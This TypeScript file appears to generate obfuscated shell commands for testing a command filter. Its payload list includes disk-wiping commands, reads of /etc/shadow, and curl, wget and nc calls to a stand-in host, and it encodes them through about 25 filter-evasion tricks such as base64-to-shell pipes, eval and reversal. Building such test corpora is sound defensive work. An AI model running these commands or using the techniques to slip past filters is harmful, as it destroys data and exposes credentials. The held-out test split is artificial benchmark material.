/*
 * A generator of obfuscated commands: each technique takes what a command means and hides it in its own way. Used by the tests and the bench of the command
 * filter. The techniques in LEFT_OUT were never looked at while the filter was tuned; their results are reported separately.
 */

/** A whole number from 0 below `limit`. */
export type Draw = (limit: number) => number;

type Technique = (words: readonly string[], draw: Draw) => string;

/** What attackers want to run, as plain words. */
export const payloads: readonly (readonly string[])[] = [
  ['rm', '-rf', '/'],
  ['rm', '-rf', '/home'],
  ['cat', '/etc/passwd'],
  ['cat', '/etc/shadow'],
  ['whoami'],
  ['id', '-u'],
  ['uname', '-a'],
  ['ls', '-la', '/root'],
  ['curl', 'http://203.0.113.7/payload'],
  ['wget', 'http://203.0.113.7/x'],
  ['nc', '203.0.113.7', '4444'],
  ['chmod', '777', '/etc/hosts'],
  ['mkfs.ext4', '/dev/sda1'],
  ['python3', 'exploit.py'],
  ['shutdown', 'now'],
  ['head', '/root/notes'],
];

/** A repeatable row of numbers (mulberry32). */
export function createDraw(seed: number): Draw {
  let state = seed >>> 0;
  return (limit) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return Math.floor((((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296) * limit);
  };
}

const pick = <T>(items: readonly T[], draw: Draw): T => {
  const item = items[draw(items.length)];
  if (item === undefined) throw new Error('There is nothing to pick from.');
  return item;
};
const codesOf = (text: string): number[] => [...text].map((character) => character.charCodeAt(0));
const hex = (text: string): string =>
  codesOf(text)
    .map((code) => `\\x${code.toString(16)}`)
    .join('');
const octal = (text: string): string =>
  codesOf(text)
    .map((code) => `\\${code.toString(8).padStart(3, '0')}`)
    .join('');
const joined = (words: readonly string[]): string => words.join(' ');
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const rest = (words: readonly string[]): string => (words.length > 1 ? ` ${words.slice(1).join(' ')}` : '');
const name = (words: readonly string[]): string => words[0] ?? '';
const split = (text: string, draw: Draw): [string, string] => {
  const at = 1 + draw(Math.max(1, text.length - 1));
  return [text.slice(0, at), text.slice(at)];
};
const shell = (draw: Draw): string => pick(['sh', 'bash', '/bin/sh', 'bash -s', 'dash', 'zsh', '/usr/bin/env bash'], draw);
const insert = (text: string, piece: string, draw: Draw): string => {
  const [front, back] = split(text, draw);
  return back === '' ? front + piece : front + piece + back;
};

export const techniques: Readonly<Record<string, Technique>> = {
  'empty quotes': (words, draw) => `${insert(name(words), pick(["''", '""', "''''", '""'], draw), draw)}${rest(words)}`,
  'quoted pieces': (words, draw) => {
    const [front, back] = split(name(words), draw);
    return `${pick([`'${front}'${back}`, `"${front}"${back}`, `${front}'${back}'`, `${front}"${back}"`, [...name(words)].map((c) => `'${c}'`).join('')], draw)}${rest(words)}`;
  },
  backslashes: (words, draw) => `${insert(name(words), '\\', draw)}${rest(words)}`,
  'ansi-c': (words, draw) => {
    const code = pick([hex, octal], draw);
    return pick(
      [
        `$'${code(name(words))}'${rest(words)}`,
        `${name(words).slice(0, 1)}$'${code(name(words).slice(1))}'${rest(words)}`,
        words.map((word) => `$'${code(word)}'`).join(' '),
      ],
      draw,
    );
  },
  ifs: (words, draw) =>
    words.length > 1 ? words.join(pick(['${IFS}', '$IFS', '$IFS$9', '${IFS%?}', '${IFS:0:1}'], draw)) : `${name(words)}$IFS`,
  braces: (words, draw) => pick([`{${[...words, ''].join(',')}}`, `{${words.join(',')},}`], draw),
  'split variables': (words, draw) => {
    const [front, back] = split(name(words), draw);
    const separator = pick(['; ', ' && ', '\n'], draw);
    return `a=${front}${separator}b=${back}${separator}${pick(['$a$b', '${a}${b}', '"$a$b"', '"$a""$b"'], draw)}${rest(words)}`;
  },
  'variable indirection': (words, draw) =>
    pick(
      [
        `X=${name(words)}; $X${rest(words)}`,
        `CMD="${joined(words)}"; $CMD`,
        `c="${joined(words)}";eval $c`,
        `x=${name(words)} && "$x"${rest(words)}`,
      ],
      draw,
    ),
  'base64 pipe': (words, draw) =>
    pick(
      [
        `echo ${base64(joined(words))} | base64 -d | ${shell(draw)}`,
        `printf %s ${base64(joined(words))}|base64 --decode|${shell(draw)}`,
        `base64 -d <<< ${base64(joined(words))} | ${shell(draw)}`,
        `eval "$(echo ${base64(joined(words))} | base64 -d)"`,
        `bash -c "$(base64 -d <<<${base64(joined(words))})"`,
        `bash <(echo ${base64(joined(words))} | base64 -d)`,
        `python3 -c "import os,base64;os.system(base64.b64decode('${base64(joined(words))}').decode())"`,
      ],
      draw,
    ),
  'hex pipe': (words, draw) => {
    const digits = codesOf(joined(words))
      .map((code) => code.toString(16).padStart(2, '0'))
      .join('');
    return pick(
      [
        `echo ${digits} | xxd -r -p | ${shell(draw)}`,
        `xxd -r -p <<< ${digits} | ${shell(draw)}`,
        `eval $(echo ${digits} | xxd -r -p)`,
        `printf '${hex(joined(words))}' | ${shell(draw)}`,
      ],
      draw,
    );
  },
  'printf name': (words, draw) =>
    pick(
      [
        `$(printf '${octal(name(words))}')${rest(words)}`,
        `\`printf "${hex(name(words))}"\`${rest(words)}`,
        `$(printf %s ${[...name(words)].join(' ')})${rest(words)}`,
        `$(echo -e "${hex(name(words))}")${rest(words)}`,
      ],
      draw,
    ),
  'substituted name': (words, draw) =>
    pick(
      [
        `$(echo ${name(words)})${rest(words)}`,
        `\`echo ${name(words)}\`${rest(words)}`,
        `$(echo ${joined(words)})`,
        `"$(echo ${name(words)})"${rest(words)}`,
      ],
      draw,
    ),
  'empty expansions': (words, draw) =>
    `${insert(name(words), pick(['$@', '${@}', '$*', '$()', '``', '${*}', '$(:)'], draw), draw)}${rest(words)}`,
  'glob name': (words, draw) => {
    const letters = [...name(words)];
    letters[draw(letters.length)] = pick(['?', '*', `[${letters[0] ?? 'a'}]`], draw);
    return `${pick(['/bin/', '/???/', '/usr/bin/', '/b?n/', '/*/'], draw)}${letters.join('')}${rest(words)}`;
  },
  slices: (words, draw) => {
    const letters = 'abcdefghijklmnopqrstuvwxyz.0123456789';
    return `x=${letters}; ${[...name(words)].map((letter) => `\${x:${letters.indexOf(letter)}:1}`).join('')}${pick([rest(words), rest(words)], draw)}`;
  },
  'case changes': (words, draw) =>
    pick(
      [
        `x=${name(words).toUpperCase()}; \${x,,}${rest(words)}`,
        `$(tr A-Z a-z <<< ${name(words).toUpperCase()})${rest(words)}`,
        `$(echo ${name(words).toUpperCase()} | tr '[:upper:]' '[:lower:]')${rest(words)}`,
        `a=${name(words).toUpperCase()};$(printf %s "\${a,,}")${rest(words)}`,
      ],
      draw,
    ),
  replacements: (words, draw) => {
    const noise = pick(['#', '_', '@', 'Z'], draw);
    const text = [...name(words)].join(noise);
    return pick(
      [
        `x='${text}'; \${x//${noise}/}${rest(words)}`,
        `x='${text}'; \${x//[${noise}]/}${rest(words)}`,
        `$(echo '${text}' | sed 's/${noise}//g')${rest(words)}`,
        `$(echo '${text}' | tr -d '${noise}')${rest(words)}`,
      ],
      draw,
    );
  },
  'here-string': (words, draw) =>
    pick(
      [`bash <<< "${joined(words)}"`, `sh<<<'${joined(words)}'`, `bash -s <<< '${joined(words)}'`, `env bash <<< "${joined(words)}"`],
      draw,
    ),
  'echo pipe': (words, draw) =>
    pick(
      [
        `echo '${joined(words)}' | ${shell(draw)}`,
        `printf '%s\\n' "${joined(words)}" | ${shell(draw)}`,
        `echo "${joined(words)}" | xargs -I{} sh -c {}`,
        `echo "${joined(words)}" | xargs -I% bash -c "%"`,
        `cat <<< "${joined(words)}" | ${shell(draw)}`,
      ],
      draw,
    ),
  eval: (words, draw) =>
    pick(
      [
        `eval '${joined(words)}'`,
        `eval "${joined(words)}"`,
        `eval ${words.map((word) => `'${word}'`).join(' ')}`,
        `builtin eval "${joined(words)}"`,
        `eval "eval '${joined(words)}'"`,
      ],
      draw,
    ),
  'nested shells': (words, draw) =>
    pick(
      [
        `sh -c "bash -c '${joined(words)}'"`,
        `env -i nice -n 5 timeout 9 nohup ${joined(words)}`,
        `bash -c "sh -c \\"${joined(words)}\\""`,
        `env -S '${joined(words)}'`,
        `busybox sh -c '${joined(words)}'`,
        `nohup setsid env sh -c '${joined(words)}'`,
      ],
      draw,
    ),
  'compressed pipe': (words, draw) =>
    pick(
      [
        `echo H4sIAAAAAAAAA${base64(joined(words))} | base64 -d | gunzip | ${shell(draw)}`,
        `base64 -d <<< H4sIA${base64(joined(words))} | zcat | ${shell(draw)}`,
        `eval "$(echo QlpoOTFBWSZ${base64(joined(words))} | base64 -d | bunzip2 -c)"`,
      ],
      draw,
    ),
  rot13: (words, draw) => {
    const text = joined(words).replace(/[a-z]/g, (letter) => String.fromCharCode(((letter.charCodeAt(0) - 97 + 13) % 26) + 97));
    return pick(
      [
        `echo '${text}' | tr 'a-z' 'n-za-m' | ${shell(draw)}`,
        `eval "$(tr n-za-m a-z <<< '${text}')"`,
        `$(echo ${text} | tr a-zA-Z n-za-mN-ZA-M)`,
      ],
      draw,
    );
  },
  // A function is written plainly and judged as it stands; an alias renames.
  alias: (words, draw) =>
    pick(
      [
        `alias zz='${joined(words)}'; zz`,
        `alias zz="${joined(words)}";zz`,
        `shopt -s expand_aliases; alias q=${name(words)}\nq${rest(words)}`,
      ],
      draw,
    ),
  history: (words, draw) =>
    pick(
      [
        `history -s '${joined(words)}'; fc -s`,
        `history -s "${joined(words)}"; fc -e -`,
        `set -o history; history -s '${joined(words)}'; fc -s -1`,
      ],
      draw,
    ),
  /* Left out of tuning from here on. */
  reversed: (words, draw) => {
    const text = [...joined(words)].toReversed().join('');
    return pick(
      [
        `rev <<< '${text}' | ${shell(draw)}`,
        `echo '${text}' | rev | ${shell(draw)}`,
        `eval "$(rev <<< '${text}')"`,
        `$(echo '${text}' | rev)`,
        `bash -c "$(echo '${text}' | rev)"`,
        `. <(rev <<<'${text}')`,
      ],
      draw,
    );
  },
  arrays: (words, draw) => {
    const letters = [...new Set(joined(words))].sort();
    const quoted = letters.map((letter) => `'${letter}'`).join(' ');
    const indexed = [...joined(words)].map((letter) => `\${a[${letters.indexOf(letter)}]}`).join('');
    const loop = [...joined(words)].map((letter) => letters.indexOf(letter)).join(' ');
    return pick(
      [
        `a=(${quoted}); eval "${indexed}"`,
        `a=(${quoted}); ${[...name(words)].map((letter) => `\${a[${letters.indexOf(letter)}]}`).join('')}${rest(words)}`,
        `a=(${quoted});for i in ${loop};do printf %s "\${a[$i]}";done|${shell(draw)}`,
        `c=(${joined(words)}); "\${c[@]}"`,
        `a=(${quoted}); bash -c "${indexed}"`,
      ],
      draw,
    );
  },
};

export const LEFT_OUT: readonly string[] = ['reversed', 'arrays'];

export interface Obfuscated {
  technique: string;
  text: string;
}

export function obfuscate(technique: string, count: number, draw: Draw): Obfuscated[] {
  const hide = techniques[technique];
  if (!hide) throw new Error(`There is no technique ${technique}.`);
  return Array.from({ length: count }, () => {
    // A name of one letter cannot be taken apart.
    const words = pick(payloads, draw);
    return { technique, text: hide(words, draw) };
  });
}
